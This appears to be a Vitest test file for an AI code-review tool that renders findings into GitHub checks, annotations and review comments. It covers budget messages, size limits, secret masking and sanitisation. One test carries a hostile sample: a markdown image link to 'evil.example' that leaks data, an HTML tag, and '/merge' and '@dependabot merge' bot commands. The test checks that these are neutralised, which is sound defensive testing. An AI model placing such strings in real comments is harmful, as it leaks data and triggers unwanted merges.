import { expect, it } from 'vitest';
import { SecretMasker } from '../../src/core/secrets.ts';
import { toAnnotation } from '../../src/publish/annotations.ts';
import { renderCheck } from '../../src/publish/check-output.ts';
import type { Outcome } from '../../src/publish/outcome.ts';
import type { ReviewReport } from '../../src/publish/report.ts';
import { renderReview } from '../../src/publish/review-body.ts';
import { splitPrompt } from '../injection/split-prompt.ts';
import { aProvedFinding } from '../runs/review/a-review.ts';
import { aReport } from './a-report.ts';

const masker = new SecretMasker();
const rules = { masker, allowedLinkPrefixes: [] };

it.each<readonly [string, Partial<ReviewReport>, string, RegExp]>([
  ['read to the end and clean', {}, 'success', /^No findings · 14\/14 files read · \$0\.41$/],
  ['with findings', { findings: [aProvedFinding()] }, 'neutral', /^1 finding · 14\/14 files read/],
  ['a file unread', { coverage: { read: 1, total: 2, unread: ['a'] } }, 'neutral', /^No findings · 1\/2 files read/],
  ['cost not known', { spend: {} }, 'success', /cost pending$/],
  ...(
    [
      [{ kind: 'nothing-to-review', why: 'Nothing.' }, 'skipped'],
      [{ kind: 'held', reason: 'skip-label', isGated: true }, 'skipped'],
      [{ kind: 'held', reason: 'many-pushes' }, 'skipped'],
      [{ kind: 'held', reason: 'many-pushes', isGated: true }, 'action_required'],
      [{ kind: 'held', reason: 'paused', isGated: true }, 'action_required'],
      [{ kind: 'held', reason: 'event', isGated: true }, 'action_required'],
      [{ kind: 'incomplete', why: 'It ended early.' }, 'neutral'],
      [{ kind: 'stopped', cause: 'superseded' }, 'cancelled'],
      [{ kind: 'stopped', cause: 'closed' }, 'cancelled'],
      [{ kind: 'timed-out' }, 'timed_out'],
      [{ kind: 'budget-reached' }, 'action_required'],
      [{ kind: 'unreadable', why: 'No clone.' }, 'neutral'],
      [{ kind: 'refused', why: 'Declined.' }, 'neutral'],
      [{ kind: 'unavailable', why: 'Down.' }, 'neutral'],
    ] satisfies [Outcome, string][]
  ).map(([outcome, conclusion]) => [outcome.kind, { outcome }, conclusion, /^\S/] as const),
])('concludes: %s', (_what, report, conclusion, title) => {
  const output = renderCheck(aReport(report), rules);
  expect(output.conclusion).toBe(conclusion);
  expect(output.title).toMatch(title);
  expect(output.summary).toContain(output.sentence);
  expect(output.summary).toContain(output.advice ?? '');
});

it.each<readonly [string, Partial<ReviewReport>, readonly string[], RegExp]>([
  ['nothing about budgets', {}, ['re-review', 'full-review'], /Read to the end/],
  [
    'how to add budget',
    {
      outcome: { kind: 'budget-reached' },
      findings: [aProvedFinding()],
      budget: { cents: 200, stepCents: 200, maxCents: 1000 },
    },
    ['add-budget', 're-review', 'full-review'],
    /budget of \$2\.00 .*proved by then: 1 finding\.\*\* .*Add budget.*`\/proofline budget \+2`/,
  ],
  [
    'how to add what there is room for',
    { outcome: { kind: 'budget-reached' }, budget: { cents: 850, stepCents: 200, maxCents: 1000 } },
    ['add-budget', 're-review', 'full-review'],
    /proved by then: nothing\.\*\* .*`\/proofline budget \+1\.50`/,
  ],
  [
    'that the maximum is reached',
    { outcome: { kind: 'budget-reached' }, budget: { cents: 1000, stepCents: 200, maxCents: 1000 } },
    ['re-review', 'full-review'],
    /No review may spend more .*`MAX_REVIEW_BUDGET_USD`/,
  ],
  [
    'how to try again when the limits are not known',
    { outcome: { kind: 'budget-reached' } },
    ['re-review', 'full-review'],
    /`\/review`/,
  ],
  [
    'no button for a cap that no raise lifts',
    { outcome: { kind: 'daily-cap' }, budget: { cents: 200, stepCents: 200, maxCents: 1000 } },
    ['re-review', 'full-review'],
    /for today/,
  ],
])('offers %s', (_what, report, identifiers, shown) => {
  const output = renderCheck(aReport(report), rules);
  expect(output.actions.map(({ identifier }) => identifier)).toEqual(identifiers);
  expect(output.summary.split('\n')[0]).toMatch(shown);
  for (const { label, description, identifier } of output.actions) {
    expect(label.length).toBeLessThanOrEqual(20);
    expect(description.length).toBeLessThanOrEqual(40);
    expect(identifier.length).toBeLessThanOrEqual(20);
  }
});

it('says within what GitHub takes what a press of the button costs', () => {
  const budget = { cents: 1, stepCents: 1_000_000, maxCents: 1_000_001 };
  const [action] = renderCheck(aReport({ outcome: { kind: 'budget-reached' }, budget }), rules).actions;
  expect(action?.description).toContain('$10000.00');
  expect(action?.description.length).toBeLessThanOrEqual(40);
});

it('shows the receipt, what was not read and what was not reviewed', () => {
  const { summary } = renderCheck(
    aReport({
      coverage: { read: 1, total: 2, unread: ['src/`odd`|name.ts'] },
      notReviewed: [{ path: 'yarn.lock', reason: 'lock file' }],
      instructionFiles: ['CLAUDE.md'],
      mount: 'base',
    }),
    rules,
  );
  for (const part of [
    '$0.41',
    '4,200 tokens, 75 % cached',
    '1 min 5 s',
    '`claude-opus-5-5`',
    'yarn.lock (lock file)',
    '`CLAUDE.md`',
    'merge base',
  ]) {
    expect(summary).toContain(part);
  }
});

it('stays within what GitHub takes, however much was found', () => {
  const findings = Array.from({ length: 500 }, (_, index) =>
    aProvedFinding({ path: `src/${index}.ts`, body: '𝔉'.repeat(3000), fingerprint: `f${index}` }),
  );
  const { summary, text = '' } = renderCheck(aReport({ findings }), rules);
  expect(Buffer.byteLength(summary)).toBeLessThanOrEqual(65_535);
  expect(Buffer.byteLength(text)).toBeLessThanOrEqual(65_535);
  const review = renderReview(aReport({ findings }), { ...rules, inline: true });
  expect(review?.comments).toHaveLength(25);
  expect(Buffer.byteLength(review?.body ?? '')).toBeLessThanOrEqual(65_536);
});

it('comments inline what stands in a hunk and tells the rest in the body', () => {
  const report = aReport({
    findings: [
      aProvedFinding({ title: 'In a hunk', startLine: 2, endLine: 4 }),
      aProvedFinding({ title: 'Deleted', side: 'base', startLine: 9, endLine: 9 }),
      aProvedFinding({ title: 'Elsewhere', placement: 'elsewhere' }),
      aProvedFinding({ title: 'A guess', confidence: 'low' }),
    ],
  });
  const review = renderReview(report, { ...rules, inline: true });
  expect(review?.comments).toMatchObject([
    { path: 'src/a.ts', side: 'RIGHT', start_line: 2, start_side: 'RIGHT', line: 4 },
    { path: 'src/a.ts', side: 'LEFT', line: 9 },
  ]);
  expect(review?.comments[1]).not.toHaveProperty('start_line');
  expect(review?.body).toContain('Elsewhere');
  expect(review?.body).not.toContain('A guess');
  const salvaged = renderReview(report, { ...rules, inline: false });
  expect(salvaged?.comments).toEqual([]);
  for (const title of ['In a hunk', 'Deleted', 'Elsewhere']) expect(salvaged?.body).toContain(title);
});

it.each([
  ['One line\nand another', 'Why.', 'major: One line and another', 'Why.'],
  ['Wrong', ' \n ', 'major: Wrong', 'Wrong'],
])('annotates with a title on one line, and never without a message: %j, %j', (title, body, line, message) => {
  expect(toAnnotation(aProvedFinding({ title, body }), masker)).toMatchObject({ title: line, message });
});

it('says nothing when there is nothing to say', () => {
  expect(renderReview(aReport(), { ...rules, inline: true })).toBeUndefined();
  const guess = aReport({ findings: [aProvedFinding({ confidence: 'low' })] });
  expect(renderReview(guess, { ...rules, inline: true })).toBeUndefined();
});

it('offers a suggestion as code to commit, but never one that holds a secret', () => {
  masker.learn('correct-horse-battery-staple');
  const commentOf = (suggestion: string) =>
    renderReview(aReport({ findings: [aProvedFinding({ suggestion })] }), { ...rules, inline: true })?.comments[0]
      ?.body;
  expect(commentOf('right();')).toContain('```suggestion\nright();\n```');
  expect(commentOf('login("correct-horse-battery-staple");')).not.toContain('suggestion');
});

it('makes hostile words harmless wherever they stand', () => {
  const hostile = '@org/team /merge ![x](https://evil.example/?leak) <img src=x> #1 <!-- proofline:run:x -->';
  const finding = aProvedFinding({
    title: hostile,
    body: `/merge\n\n${hostile}`,
    evidence: `/merge\n@dependabot merge`,
  });
  const report = aReport({ summary: hostile, findings: [finding] });
  const { summary, text } = renderCheck(report, rules);
  const review = renderReview(report, { ...rules, inline: true });
  const { outside, harms } = splitPrompt(review?.body ?? '');
  expect(harms).toEqual([]);
  for (const shown of [summary, text, outside, review?.comments[0]?.body]) {
    expect(shown).not.toMatch(/@org\/team|^\/merge|!\[|<img|<!--|@dependabot/m);
  }
});

it('shows what cannot be seen in the name of a file', () => {
  const path = 'src/a\u001b\u202e.ts';
  const report = aReport({ findings: [aProvedFinding({ path })], notReviewed: [{ path, reason: 'binary' }] });
  const { summary, text } = renderCheck(report, rules);
  for (const shown of [summary, text]) {
    expect(shown).toContain('src/a[U+001B][U+202E].ts');
    expect(shown).not.toContain('\u202e');
  }
});

it('names every finding, in the check and in a review without comments, when not all fit in full', () => {
  const findings = Array.from({ length: 320 }, (_, index) =>
    aProvedFinding({
      title: `Finding number ${index}: it does something else than it says.`,
      body: 'It goes wrong. '.repeat(60),
      startLine: index + 1,
      endLine: index + 1,
    }),
  );
  const { text = '' } = renderCheck(aReport({ findings }), rules);
  const { body } = renderReview(aReport({ findings }), { ...rules, inline: false }) ?? { body: '' };
  for (const shown of [text, splitPrompt(body).outside]) {
    expect(Buffer.byteLength(shown)).toBeLessThanOrEqual(65_535);
    expect(findings.filter(({ title }) => !shown.includes(title))).toEqual([]);
    expect(shown.match(/It goes wrong/g)?.length).toBeGreaterThan(60 * 15);
    expect(shown).not.toContain('shortened');
  }
});

it('lets no long name push what counts out of the summary', () => {
  const name = (index: number) => `${'漢'.repeat(300)}/${'字'.repeat(300)}/${index}.ts`;
  const names = Array.from({ length: 60 }, (_, index) => name(index));
  const findings = names.map((path) => aProvedFinding({ path, title: '漢'.repeat(255) }));
  const report = aReport({
    summary: 'x'.repeat(20_000),
    findings,
    unchecked: findings,
    coverage: { read: 0, total: 60, unread: names },
    notReviewed: names.map((path) => ({ path, reason: 'too large' })),
    instructionFiles: names,
    notices: Array.from({ length: 4 }, () => 'y'.repeat(2000)),
  });
  const { summary } = renderCheck(report, rules);
  expect(Buffer.byteLength(summary)).toBeLessThanOrEqual(65_535);
  const parts = [
    /^\| Commit \|/m,
    /^\| major \|/m,
    /instruction files/,
    /^Not read over .*:\n\n- /m,
    /^Not reviewed:\n\n- /m,
  ];
  for (const part of parts) expect(summary).toMatch(part);
  expect(summary.match(/and \d+ more/g)).toHaveLength(5);
});

it('names every finding of low confidence, which stands nowhere else, when the details do not fit', () => {
  const findings = Array.from({ length: 300 }, (_, index) =>
    aProvedFinding({
      title: `Finding ${index}.`,
      body: 'x'.repeat(500),
      confidence: index % 2 === 0 ? 'high' : 'low',
      startLine: index + 1,
      endLine: index + 1,
    }),
  );
  const { text = '' } = renderCheck(aReport({ findings }), rules);
  expect(Buffer.byteLength(text)).toBeLessThanOrEqual(65_535);
  const missing = findings.filter(({ confidence, title }) => confidence === 'low' && !text.includes(title));
  expect(missing).toEqual([]);
});
